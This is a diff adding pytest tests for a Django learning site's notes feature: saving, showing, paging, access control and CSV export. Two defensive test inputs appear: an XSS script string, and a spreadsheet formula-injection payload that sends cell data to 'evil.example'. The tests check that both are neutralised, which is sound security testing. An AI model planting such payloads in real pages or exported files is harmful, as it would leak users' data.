@@ -1,0 +1,244 @@
+"""Notes on the learner pages: the form on a resource's page, the Notes page, the CSV column."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+from django.utils import timezone
+
+from catalog.models import Status
+from recommender import services
+from recommender.models import NOTE_MAX_CHARS, Note, Progress
+from tests.factories import ResourceFactory
+
+pytestmark = pytest.mark.django_db
+
+SCRIPT = "<script>alert(1)</script>"
+ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
+
+
+@pytest.fixture
+def resource(db):
+    return ResourceFactory(title="RBAC, good practices")
+
+
+def page(resource) -> str:
+    return f"/resources/{resource.pk}/"
+
+
+def save(client, resource, text: str, **extra):
+    return client.post(f"/resources/{resource.pk}/note/", {"text": text}, **extra)
+
+
+def note_written(user, resource, text: str, *, minutes_ago: int = 0) -> Note:
+    note, _ = services.note_set(user=user, resource=resource, text=text)
+    assert note is not None
+    # updated_at is auto_now: set the order the test wants with an update.
+    Note.objects.filter(pk=note.pk).update(
+        updated_at=timezone.now() - timedelta(minutes=minutes_ago)
+    )
+    return note
+
+
+def messages_of(response) -> list[str]:
+    return [str(message) for message in response.context["messages"]]
+
+
+# --- The resource page ---------------------------------------------------------------------
+
+
+def test_the_resource_page_offers_a_labelled_note_box_to_learners_only(client, alice_web, resource):
+    body = alice_web.get(page(resource)).content.decode()
+    assert '<label for="id_text">Your notes</label>' in body
+    assert f'maxlength="{NOTE_MAX_CHARS}"' in body
+    assert f'action="/resources/{resource.pk}/note/"' in body
+    assert "id_text" not in client.get(page(resource)).content.decode()
+
+
+def test_the_resource_page_with_a_note_is_never_cached(alice, alice_web, resource):
+    note_written(alice, resource, "private")
+    assert "no-store" in alice_web.get(page(resource))["Cache-Control"]
+
+
+def test_saving_a_note_stores_it_and_says_so(alice, alice_web, resource):
+    response = save(alice_web, resource, "  kubectl auth can-i --list\r\n  ", follow=True)
+    assert response.redirect_chain == [(page(resource), 302)]
+    assert messages_of(response) == ["Note saved."]
+    assert Note.objects.get(user=alice).text == "kubectl auth can-i --list"
+    body = response.content.decode()
+    assert "kubectl auth can-i --list</textarea>" in body
+    assert "Last saved <time" in body
+
+
+def test_emptying_the_note_removes_it_and_says_so(alice, alice_web, resource):
+    note_written(alice, resource, "to be removed")
+    response = save(alice_web, resource, "   ", follow=True)
+    assert messages_of(response) == ["Note removed."]
+    assert not Note.objects.exists()
+    assert "Last saved" not in response.content.decode()
+
+
+def test_saving_an_empty_note_where_there_was_none_says_nothing_was_saved(alice_web, resource):
+    response = save(alice_web, resource, "", follow=True)
+    assert messages_of(response) == ["Nothing saved: the note was empty."]
+    assert not Note.objects.exists()
+
+
+def test_a_note_at_the_limit_with_browser_line_breaks_is_accepted(alice, alice_web, resource):
+    # The textarea's maxlength counts a line break as one character; the browser sends two.
+    text = ("x" * 99 + "\r\n") * (NOTE_MAX_CHARS // 100)
+    assert save(alice_web, resource, text).status_code == 302
+    assert len(Note.objects.get().text) == NOTE_MAX_CHARS - 1  # the last line break is trimmed
+
+
+def test_a_note_over_the_limit_is_refused_clearly_and_nothing_is_stored(alice, alice_web, resource):
+    note_written(alice, resource, "kept")
+    too_long = "y" * (NOTE_MAX_CHARS + 1)
+    response = save(alice_web, resource, too_long)
+    assert response.status_code == 400
+    body = response.content.decode()
+    assert "A note can be at most 10,000 characters long; this one has 10,001." in body
+    assert f">\n{too_long}</textarea>" in body  # the text is not lost
+    assert Note.objects.get().text == "kept"
+
+
+def test_a_note_with_a_nul_character_is_a_400_not_a_server_error(alice_web, resource):
+    assert save(alice_web, resource, "a\x00b").status_code == 400
+    assert not Note.objects.exists()
+
+
+def test_a_script_in_a_note_is_shown_as_text_on_the_resource_page(alice, alice_web, resource):
+    note_written(alice, resource, SCRIPT)
+    body = alice_web.get(page(resource)).content.decode()
+    assert SCRIPT not in body
+    assert f">\n{ESCAPED}</textarea>" in body
+
+
+def test_a_note_changes_no_progress_and_clear_keeps_the_note(alice, alice_web, resource):
+    save(alice_web, resource, "my note")
+    assert not Progress.objects.exists()
+    alice_web.post(f"/progress/{resource.pk}/", {"state": "completed"})
+    alice_web.post(f"/progress/{resource.pk}/forget/")
+    assert not Progress.objects.exists()
+    assert Note.objects.get().text == "my note"
+
+
+def test_another_learner_never_sees_or_changes_your_note(alice, bob_web, resource):
+    note_written(alice, resource, "alice's secret")
+    assert "secret" not in bob_web.get(page(resource)).content.decode()
+    assert "secret" not in bob_web.get("/notes/").content.decode()
+    save(bob_web, resource, "")  # bob empties *his* note: alice's stays
+    save(bob_web, resource, "bob's own")
+    assert dict(Note.objects.values_list("user__username", "text")) == {
+        "alice": "alice's secret",
+        "bob": "bob's own",
+    }
+
+
+def test_notes_on_hidden_or_unknown_resources_are_404(alice_web):
+    pending = ResourceFactory(status=Status.PENDING)
+    assert save(alice_web, pending, "x").status_code == 404
+    assert alice_web.post("/resources/999999/note/", {"text": "x"}).status_code == 404
+    assert not Note.objects.exists()
+
+
+def test_saving_a_note_signed_out_goes_to_sign_in_and_stores_nothing(client, resource):
+    response = save(client, resource, "x", HTTP_REFERER=page(resource))
+    assert response.status_code == 302
+    assert response["Location"].startswith("/signin/")
+    assert not Note.objects.exists()
+
+
+def test_a_note_cannot_be_read_with_get(alice_web, resource):
+    assert alice_web.get(f"/resources/{resource.pk}/note/").status_code == 405
+
+
+# --- The Notes page ------------------------------------------------------------------------
+
+
+def test_the_notes_page_lists_the_learners_notes_newest_first_with_links(alice, alice_web):
+    older, newer = ResourceFactory(title="Older"), ResourceFactory(title="Newer")
+    note_written(alice, older, "first line\nsecond line", minutes_ago=10)
+    note_written(alice, newer, "recent", minutes_ago=1)
+    response = alice_web.get("/notes/")
+    assert response.status_code == 200
+    assert [note.resource.title for note in response.context["notes"]] == ["Newer", "Older"]
+    body = response.content.decode()
+    assert f'href="/resources/{older.pk}/">Older</a>' in body
+    assert "first line<br>second line" in body
+
+
+def test_a_script_in_a_note_is_shown_as_text_on_the_notes_page(alice, alice_web, resource):
+    note_written(alice, resource, f"{SCRIPT}\nnext line")
+    body = alice_web.get("/notes/").content.decode()
+    assert SCRIPT not in body
+    assert f"{ESCAPED}<br>next line" in body
+
+
+def test_the_notes_page_shows_twenty_a_page_and_an_odd_page_shows_the_nearest(alice, alice_web):
+    for n in range(23):
+        note_written(alice, ResourceFactory(), f"note {n}", minutes_ago=n)
+    assert len(alice_web.get("/notes/").context["notes"]) == 20
+    second = alice_web.get("/notes/", {"page": 2})
+    assert [note.text for note in second.context["notes"]] == ["note 20", "note 21", "note 22"]
+    assert 'href="?page=2"' in alice_web.get("/notes/").content.decode()
+    assert alice_web.get("/notes/", {"page": 9}).context["page"].number == 2
+
+
+def test_the_notes_page_leaves_out_withdrawn_resources(alice, alice_web):
+    note_written(alice, ResourceFactory(title="Withdrawn", status=Status.REJECTED), "x")
+    response = alice_web.get("/notes/")
+    assert list(response.context["notes"]) == []
+    assert "No notes yet." in response.content.decode()
+
+
+def test_the_notes_page_needs_sign_in(client):
+    response = client.get("/notes/")
+    assert response.status_code == 302
+    assert response["Location"].startswith("/signin/")
+
+
+def test_history_links_the_notes_with_their_count(alice, alice_web, resource):
+    note_written(alice, resource, "x")
+    body = alice_web.get("/history/").content.decode()
+    assert '<a href="/notes/">Your notes (1)</a>' in body
+
+
+def test_the_main_menu_does_not_link_the_notes(alice_web):
+    nav = alice_web.get("/").content.decode().split('class="main-nav"')[1].split("</nav>")[0]
+    assert "/notes/" not in nav
+
+
+# --- The CSV download ----------------------------------------------------------------------
+
+
+def download(client) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(client.get("/history/progress.csv").content.decode())))
+
+
+def test_the_download_has_each_note_beside_its_progress_and_notes_without_progress(
+    alice, bob, alice_web
+):
+    read, noted = ResourceFactory(title="Read"), ResourceFactory(title="Only noted")
+    services.progress_set(user=alice, resource=read, state="completed", rating=4)
+    note_written(alice, read, "line one\nline two")
+    note_written(alice, noted, "just a note")
+    note_written(bob, read, "bob's")
+    rows = download(alice_web)
+    assert [(r["title"], r["state"], r["note"]) for r in rows] == [
+        ("Read", "Completed", "line one\nline two"),
+        ("Only noted", "", "just a note"),
+    ]
+
+
+def test_a_note_that_looks_like_a_formula_is_downloaded_as_text(alice, alice_web):
+    # Beside progress and on its own: both kinds of row.
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    read, noted = ResourceFactory(), ResourceFactory()
+    services.progress_set(user=alice, resource=read, state="completed", rating=None)
+    note_written(alice, read, formula)
+    note_written(alice, noted, "+" + formula)
+    assert [row["note"] for row in download(alice_web)] == ["'" + formula, "'+" + formula]
